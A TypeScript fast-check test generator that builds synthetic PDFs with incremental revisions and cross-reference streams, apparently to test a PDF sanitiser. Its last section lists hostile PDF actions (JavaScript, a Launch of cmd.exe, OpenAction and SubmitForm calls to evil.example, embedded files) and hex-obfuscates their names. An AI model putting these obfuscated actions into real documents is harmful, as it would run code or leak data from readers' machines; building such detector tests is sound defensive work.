import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { type Filter, filters, foldedBy } from './pdf-filters'

const latin1 = (text: string) => Buffer.from(text, 'latin1')

// --- Values ----------------------------------------------------------------------------------------------------------

const names = [
  'Type',
  'Font',
  'F1',
  'Im0',
  'Producer',
  'A#20B',
  'J',
  'JSON',
  'AAA',
  'Sounds',
  'OpenActions',
  'N',
]
const name = fc.constantFrom(...names).map((text) => `/${text}`)
const number = fc.oneof(
  fc.integer({ min: -9_999, max: 99_999 }).map(String),
  fc.constantFrom('0.5', '-.25', '+7', '4.', '00012', '-0.001'),
)
const reference = fc.integer({ min: 1, max: 40 }).map((to) => `${to} 0 R`)
/** Texts that look like PDF syntax. */
const words = ['stream', 'endstream', 'endobj', '( obj)', '%', 'xref', '\\)', '\\\\', '\\050', '\r\n', '\xe9']
const text = fc
  .array(fc.oneof(fc.constantFrom(...words), fc.stringMatching(/^[a-zA-Z0-9 .,:-]{0,12}$/)), { maxLength: 4 })
  .map((parts) => `(${parts.join('')})`)
const hexText = fc.uint8Array({ maxLength: 12 }).map((bytes) => `<${Buffer.from(bytes).toString('hex')}>`)
const blank = fc.constantFrom(' ', '\n', '\r\n', '\t', ' \0', '\f', ' % a note (\n', '')

const { value } = fc.letrec<{ value: string; dictionary: string; list: string }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    name,
    number,
    reference,
    text,
    hexText,
    fc.constantFrom('true', 'false', 'null'),
    tie('dictionary'),
    tie('list'),
  ),
  dictionary: fc
    .array(fc.tuple(name, blank, tie('value')), { maxLength: 4 })
    .map((entries) => `<<${entries.map(([key, space, of]) => `${key}${space || ' '}${of}`).join('')}>>`),
  list: fc
    .tuple(fc.array(tie('value'), { maxLength: 4 }), blank)
    .map(([of, space]) => `[${of.join(space || ' ')}]`),
}))

// --- Objects ---------------------------------------------------------------------------------------------------------

type Part = string | Buffer

const filterNames = Object.keys(filters) as Filter[]
/** Filter chains that are never accepted for an object stream. */
export const longChains = fc
  .array(fc.constantFrom(...filterNames), { minLength: 1, maxLength: 4 })
  .filter((chain) => chain.join() !== 'FlateDecode')

const drawing = fc.constantFrom(
  'BT /F1 12 Tf (Certificate) Tj ET',
  '/P <</MCID 0>> BDC q 1 0 0 1 5 5 cm Q EMC',
  '',
)
const content = fc.oneof(
  drawing.map(latin1),
  fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
)
const lineEnd = fc.constantFrom('\n', '\r\n')

const stream = fc
  .record({
    data: content,
    chain: fc.array(fc.constantFrom(...filterNames), { minLength: 1, maxLength: 3 }),
    more: fc.constantFrom(
      '',
      '/Type/XObject/Subtype/Form/BBox[0 0 9 9]',
      '/Subtype/Image/Width 1',
      '/Length1 9',
    ),
    eol: lineEnd,
  })
  .map(({ data, chain, more, eol }): Part => {
    const folded = foldedBy(chain, data)
    const list = chain.map((filter) => `/${filter}`).join('')
    const filter = chain.length === 1 ? list : `[${list}]`
    const head = `<<${more}/Filter${filter}/Length ${folded.length}>>${eol}stream${eol}`
    return Buffer.concat([latin1(head), folded, latin1(`${eol}endstream`)])
  })

/** An object stream, as nearly every program has used since PDF 1.5. */
const objectStream = fc
  .record({ values: fc.array(value, { minLength: 1, maxLength: 5 }), isList: fc.boolean() })
  .map(({ values: drawn, isList }): Part => {
    // The word on its own line after a comment would begin a stream for some readers.
    const values = drawn.map((held) => held.replaceAll('stream', 'word'))
    let length = 0
    const heads = values.map((held, index) => {
      const head = `${900 + index} ${length}`
      length += latin1(held).length + 1
      return head
    })
    const head = `${heads.join(' ')}\n`
    const data = deflateSync(latin1(head + values.join('\n')))
    const filter = isList ? '[ /FlateDecode ]' : '/FlateDecode'
    const keys = `/Type/ObjStm/N ${values.length}/First ${head.length}/Length ${data.length}/Filter${filter}`
    return Buffer.concat([latin1(`<<${keys}>>stream\n`), data, latin1('\nendstream')])
  })

const object: fc.Arbitrary<Part> = fc.oneof(value, stream, objectStream)

// --- Files -----------------------------------------------------------------------------------------------------------

export type PdfPlan = {
  /** The objects of each revision; in the first one they follow catalog and pages. */
  readonly revisions: readonly (readonly Part[])[]
  readonly catalog: string
  readonly eol: string
  readonly note: string
  /** Use a cross-reference stream with predicted rows instead of a table. */
  readonly hasPositionStream: boolean
}

export const pdfPlans: fc.Arbitrary<PdfPlan> = fc.record({
  revisions: fc.array(fc.array(object, { maxLength: 5 }), { minLength: 1, maxLength: 3 }),
  catalog: fc.constantFrom(
    '',
    '/Lang(th)',
    '/OpenAction[3 0 R /Fit]',
    '/OpenAction [ 3 0 R/XYZ null null 0]',
  ),
  eol: lineEnd,
  note: fc.constantFrom('', '%\xe2\xe3\xcf\xd3', '% a note with (an open bracket'),
  hasPositionStream: fc.boolean(),
})

const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'

/** How many objects precede the first revision's own. */
export const ownObjects = 3

/** A PDF made from this plan, each revision appended to the one before, with its cross-reference. */
export function pdfOfPlan({ revisions, catalog, eol, note, hasPositionStream }: PdfPlan): Buffer {
  let file = latin1(`%PDF-1.7${eol}${note}${eol}`)
  const add = (part: Part) => {
    file = Buffer.concat([file, typeof part === 'string' ? latin1(part) : part])
  }
  let count = 1
  let previous = ''
  revisions.forEach((objects, index) => {
    const own = [`<</Type/Catalog/Pages 2 0 R${catalog}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', page]
    const positions: number[] = []
    const first = count
    for (const part of index === 0 ? [...own, ...objects] : objects) {
      positions.push(file.length)
      add(`${count} 0 obj${eol}`)
      add(part)
      add(`${eol}endobj${eol}`)
      count++
    }
    const start = file.length
    const keys = `/Root 1 0 R${previous}`
    if (hasPositionStream) add(positionStream(count++, first, [...positions, start], keys, eol))
    else add(positionTable(first, positions, keys, eol))
    previous = `/Prev ${start}`
    add(`startxref${eol}${start}${eol}%%EOF${eol}`)
  })
  return file
}

function positionTable(first: number, positions: readonly number[], keys: string, eol: string): string {
  const rows = positions.map((at) => `${String(at).padStart(10, '0')} 00000 n\r\n`).join('')
  const head = first === 1 ? `0 1${eol}0000000000 65535 f\r\n` : ''
  const trailer = `trailer${eol}<</Size ${first + positions.length}${keys}>>${eol}`
  return `xref${eol}${head}${first} ${positions.length}${eol}${rows}${trailer}`
}

function positionStream(
  number: number,
  first: number,
  positions: readonly number[],
  keys: string,
  eol: string,
): Buffer {
  let above = Buffer.alloc(5)
  const rows = positions.map((at) => {
    const row = Buffer.from([1, 0, 0, 0, 0])
    row.writeUInt32BE(at, 1)
    const differences = row.map((byte, index) => (byte - (above[index] ?? 0)) & 0xff)
    above = row
    return Buffer.from([2, ...differences])
  })
  const data = deflateSync(Buffer.concat(rows))
  const size = `/Size ${number + 1}/Index[${first} ${positions.length}]/W[1 4 0]`
  const how = `/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 5>>/Length ${data.length}`
  return Buffer.concat([
    latin1(`${number} 0 obj${eol}<</Type/XRef${size}${how}${keys}>>${eol}stream${eol}`),
    data,
    latin1(`${eol}endstream${eol}endobj${eol}`),
  ])
}

// --- What is hidden in them ------------------------------------------------------------------------------------------

const orders = [
  '<</S/JavaScript/JS(app.alert\\(1\\))>>',
  '<</Type/Action/S/JavaScript/JS 9 0 R>>',
  '<</S/Launch/F(cmd.exe)>>',
  '<</Type/Catalog/OpenAction<</S/URI/URI(//evil.example)>>>>',
  '<</OpenAction 9 0 R>>',
  '<</Type/Page/AA<</O 9 0 R>>>>',
  '<</S/SubmitForm/F(//evil.example)>>',
  '<</S/GoToR/F(//evil.example)>>',
  '<</Type/Filespec/EF<</F 9 0 R>>>>',
  '<</AcroForm<</XFA 9 0 R>>>>',
  '<</S/Thread/F(//evil.example)/D 0>>',
  '<</S/RichMediaExecute/CMD 9 0 R>>',
  '<</S/URI/URI(javascript:alert\\(1\\))>>',
  '<</Type/Catalog/OpenAction[<</S/URI/URI(//evil.example)>>]>>',
  '<</Subtype/Form/Ref<</F(//evil.example)>>>>',
  '<</Type/XObject/Subtype/PS>>',
]

const coded = (letter: string) => `#${letter.charCodeAt(0).toString(16)}`

/** An action to run, open or unpack something, with some letters of its names written as codes. */
export const actions = fc
  .tuple(fc.constantFrom(...orders), fc.array(fc.boolean(), { minLength: 1, maxLength: 8 }))
  .map(([order, inCodes]) => {
    let letters = 0
    const spelt = (written: string) =>
      written.replaceAll(/[A-Za-z]/g, (letter) =>
        inCodes[letters++ % inCodes.length] ? coded(letter) : letter,
      )
    return order.replaceAll(/\/[A-Za-z]+/g, spelt)
  })
